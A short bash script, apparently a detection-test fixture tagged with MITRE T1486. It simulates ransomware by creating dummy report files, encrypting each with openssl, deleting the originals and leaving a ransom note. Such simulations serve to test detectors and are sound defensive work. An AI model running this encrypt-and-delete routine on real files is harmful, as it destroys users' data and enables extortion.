#!/bin/bash
# Ransomware by script: encrypt every file of a folder of planted documents with openssl, one after another, delete the originals and leave a ransom note.
# technique: T1486
# expect: bulk-file-encryption
set -eu
docs=$TPY_WORK/Documents
mkdir -p "$docs"
for i in $(seq 1 8); do echo "quarterly report $i" > "$docs/report-$i.txt"; done
for f in "$docs"/*.txt; do
    openssl enc -aes-256-cbc -pbkdf2 -salt -pass pass:not-a-real-key -in "$f" -out "$f.locked"
    rm -f "$f"
done
echo 'Your files are encrypted.' > "$docs/README-DECRYPT.txt"
